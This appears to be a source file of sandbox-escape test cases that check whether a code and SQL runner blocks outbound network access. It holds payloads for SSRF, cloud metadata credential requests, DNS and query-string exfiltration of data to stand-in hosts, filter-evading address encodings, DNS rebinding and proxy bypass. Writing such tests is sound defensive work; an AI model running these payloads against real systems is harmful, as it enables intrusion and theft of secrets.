/** N01–N16: ways to anybody outside. Where the battery runs, every address of the world is its own: a packet that leaves is seen. */
import {attack, type Case, javascript, python, refused} from '../case.ts';

const tcp = (...targets: readonly (readonly [host: string, port: number | string])[]) =>
	python(
		`for host, port in [${targets.map(([host, port]) => `(${JSON.stringify(host)}, ${port})`).join(', ')}]: look(lambda: connect(host, port))`,
	);

const canaries = ['network'] as const;

export const NETWORK: readonly Case[] = [
	attack('N01', 'connects to a public address and name', 'D', {
		canaries,
		plan: refused("FROM read_csv('http://203.0.113.9/x.csv')", "SELECT content FROM read_text('https://example.com/')"),
		code: [
			...tcp(['203.0.113.9', 80], ['8.8.8.8', 53], ['example.com', 443]),
			...javascript(
				"let result;\ntry { result = await (await fetch('http://203.0.113.9/', {signal: AbortSignal.timeout(1500)})).text() } catch (error) { result = String(error.cause?.code ?? error.name) }\nglobalThis.result = result;",
			),
		],
	}),
	attack('N02', 'sends data out by names that are looked up', 'D', {
		canaries,
		plan: refused("FROM read_csv('http://c2VjcmV0.example.com/x')", "FROM 'https://dns.google/resolve?name=x'"),
		code: python(
			'look(lambda: socket.getaddrinfo("c2VjcmV0." + "a" * 60 + ".example.com", 80))\nquery = bytes.fromhex("000101000001000000000000") + b"\\x06secret\\x07example\\x03com\\x00\\x00\\x10\\x00\\x01"\nfor host, port in [("8.8.8.8", 53), ("224.0.0.251", 5353), ("224.0.0.252", 5355), ("127.0.0.53", 53), ("1.1.1.1", 853)]: look(lambda: datagram(host, port, query))\nlook(lambda: connect("1.1.1.1", 853))\nlook(lambda: connect("8.8.8.8", 443))',
		),
	}),
	attack('N03', "asks the cloud's metadata services", 'D', {
		canaries,
		plan: refused(
			"FROM read_csv('http://169.254.169.254/latest/meta-data/')",
			"SELECT content FROM read_text('http://metadata.google.internal/')",
			"FROM read_json('http://[fd00:ec2::254]/latest/')",
		),
		code: [
			...python(
				'for host in ["169.254.169.254", "fd00:ec2::254", "100.100.100.200", "168.63.129.16", "metadata.google.internal"]:\n  def ask():\n    s = connect(host, 80, keep=True)\n    s.sendall(b"GET /latest/meta-data/iam/ HTTP/1.0\\r\\n\\r\\n")\n    return s.recv(500)\n  look(ask)',
			),
			...javascript(
				"let result;\ntry { result = await (await fetch('http://169.254.169.254/', {signal: AbortSignal.timeout(1500)})).text() } catch (error) { result = String(error.cause?.code ?? error.name) }\nglobalThis.result = result;",
			),
		],
	}),
	attack('N04', 'connects to services on the same host', 'D', {
		canaries,
		plan: refused(
			"FROM read_csv('http://127.0.0.1:@TCP@/')",
			"FROM read_csv('http://[::1]:@TCP@/')",
			"ATTACH 'host=@SOCKET@' AS p (TYPE postgres)",
		),
		code: [
			...python(
				'for host in ["127.0.0.1", "::1", "localhost", "127.1", "0.0.0.0"]: look(lambda: connect(host, @TCP@, keep=True).recv(200))\nfor name in ["\\0@ABSTRACT@", "@SOCKET@"]:\n  def unix():\n    s = socket.socket(socket.AF_UNIX); s.connect(name)\n    return s.recv(200)\n  look(unix)\nlook(lambda: datagram("127.0.0.1", @UDP@, b"x"))',
			),
			...javascript(
				"let result;\ntry { result = await (await fetch('http://127.0.0.1:@TCP@/', {signal: AbortSignal.timeout(1500)})).text() } catch (error) { result = String(error.cause?.code ?? error.name) }\nglobalThis.result = result;",
			),
		],
	}),
	attack('N05', "connects to private networks and the host's own addresses", 'D', {
		canaries,
		plan: refused("FROM 'http://10.0.0.1/x.csv'", "FROM 'http://192.168.0.1/x.csv'", "FROM 'http://172.17.0.1/x.csv'"),
		code: tcp(
			['10.0.0.1', 80],
			['172.16.0.1', 80],
			['172.17.0.1', 2375],
			['192.168.0.1', 80],
			['100.64.0.1', 80],
			['169.254.1.1', 80],
			['fe80::1', 80],
		),
	}),
	attack('N06', 'writes addresses so that a filter misreads them', 'D', {
		canaries,
		plan: refused(
			"FROM 'http://2852039166/x.csv'",
			"FROM 'http://0xa9fea9fe/x.csv'",
			"FROM 'http://[::ffff:10.0.0.1]/x.csv'",
			"FROM 'http://0251.0376.0251.0376/x.csv'",
		),
		code: tcp(
			['::ffff:10.0.0.1', 80],
			['64:ff9b::a00:1', 80],
			['2002:a00:1::1', 80],
			['2852039166', 80],
			['0xa9fea9fe', 80],
			['0251.0376.0251.0376', 80],
			['2001:db8::1', 443],
		),
	}),
	attack('N07', 'makes sockets of every other kind', 'D', {
		canaries,
		plan: refused("FROM read_csv('udp://203.0.113.9:53')", "FROM read_text('vsock://2:1')"),
		code: python(
			'for kind in [(2, 3, 1), (10, 3, 58), (17, 3, 0x300), (40, 1, 0), (16, 3, 0), (38, 5, 0), (2, 1, 132), (2, 5, 132)]:\n  go(lambda: socket.socket(*kind).fileno(), f"socket {kind} ")\nlook(lambda: datagram("203.0.113.9", 53, b"x"))',
		),
	}),
	attack('N08', 'makes a socket through io_uring', 'D', {
		canaries,
		plan: refused("SET enable_http_metadata_cache=true; FROM 'http://203.0.113.9/x'", "FROM 'https://203.0.113.9/x.parquet'"),
		code: python(
			'import ctypes\nparams = ctypes.create_string_buffer(120)\nmade = call("io_uring_setup", 4, ctypes.addressof(params))\nwon("ring") if made[0] >= 0 else tell(made)\nlook(lambda: connect("203.0.113.9", 443))',
		),
	}),
	attack('N09', 'listens, and waits for somebody outside to come', 'D/N', {
		canaries,
		plan: refused('CALL start_ui()', 'CALL start_ui_server()', "FROM 'http://0.0.0.0:@TCP@/x.csv'"),
		code: python(
			'def serve():\n  s = socket.create_server(("0.0.0.0", 0))\n  return s.getsockname()[1]\nlook(serve)\nlook(lambda: connect("127.0.0.1", @TCP@))',
		),
	}),
	attack('N10', 'hides a host behind a NUL in a name', 'D', {
		canaries,
		plan: refused(
			"FROM read_csv('http://evil.test' || chr(0) || '.allowed.test/x')",
			"FROM 'http://203.0.113.9%00.allowed.test/x'",
		),
		code: python(
			'look(lambda: connect("203.0.113.9\\0.allowed.test", 80))\ndef socks():\n  s = connect("127.0.0.1", 1080, keep=True)\n  s.sendall(b"\\x05\\x01\\x00" + b"\\x05\\x01\\x00\\x03\\x15evil.test\\0.allowed.test\\x00\\x50")\n  return s.recv(99)\nlook(socks)\nlook(lambda: connect("203.0.113.9", 80))',
		),
	}),
	attack('N11', 'uses names that look like allowed ones', 'D', {
		canaries,
		plan: refused("FROM 'http://allowed.test.evil.test/x'", "FROM 'http://user@203.0.113.9/x'", "FROM 'http://ALLOWED.test./x'"),
		code: tcp(['allowed.test.evil.test', 80], ['evilallowed.test', 80], ['xn--allwed-bua.test', 80], ['203.0.113.9', 443]),
	}),
	attack('N12', 'says one name and asks for another', 'D', {
		canaries,
		plan: refused(
			"FROM read_csv('https://203.0.113.9/x', headers={'Host': 'evil.test'})",
			"CREATE SECRET h (TYPE http, EXTRA_HTTP_HEADERS MAP {'Host': 'evil.test'})",
		),
		code: python(
			'import ssl\ndef front():\n  s = connect("203.0.113.9", 443, keep=True)\n  c = ssl.create_default_context(); c.check_hostname = False; c.verify_mode = ssl.CERT_NONE\n  return c.wrap_socket(s, server_hostname="allowed.test").version()\nlook(front)',
		),
	}),
	attack('N13', 'is answered with a private address the second time', 'D', {
		canaries,
		plan: refused("FROM 'http://rebind.test/x.csv'", "FROM 'http://7f000001.c0a80001.rbndr.us/x'"),
		code: python(
			'for _ in range(2): look(lambda: socket.gethostbyname("rebind.test"))\nlook(lambda: connect("rebind.test", 80))\nlook(lambda: datagram("127.0.0.1", 53, b"rebind"))',
		),
	}),
	attack('N14', 'tunnels to ports and hosts that a proxy would refuse', 'D', {
		canaries,
		plan: refused("SET http_proxy='203.0.113.9:3128'", "FROM 'http://203.0.113.9:22/x'", "FROM 'http://203.0.113.9:25/x'"),
		code: python(
			'for port in [3128, 8080, 22, 25]:\n  def tunnel():\n    s = connect("203.0.113.9", port, keep=True)\n    s.sendall(b"CONNECT 10.0.0.1:22 HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n")\n    return s.recv(99)\n  look(tunnel)',
		),
	}),
	attack('N15', 'carries data out in a query to an allowed host', 'D', {
		canaries,
		plan: refused(
			"FROM read_json('https://api.allowed.test/?d=' || (SELECT string_agg(region) FROM sales))",
			"COPY sales TO 'https://203.0.113.9/put.csv'",
			"COPY sales TO 's3://bucket/x.parquet'",
		),
		code: python(
			'import urllib.request\nlook(lambda: urllib.request.urlopen("http://203.0.113.9/?d=" + "-".join(str(v) for v in dfs["sales"]["amount"].head(5)) if "dfs" in globals() else "http://203.0.113.9/", timeout=2).read())',
		),
	}),
	attack('N16', 'ignores the proxy it was given', 'D', {
		canaries,
		plan: refused("SET http_proxy=''; FROM 'http://203.0.113.9/x'", "FROM 'http://198.51.100.7/x.csv'"),
		code: python(
			'for name in list(os.environ):\n  if "proxy" in name.lower(): del os.environ[name]\nlook(lambda: connect("198.51.100.7", 443))\nlook(lambda: connect("203.0.113.9", 80))',
		),
	}),
];
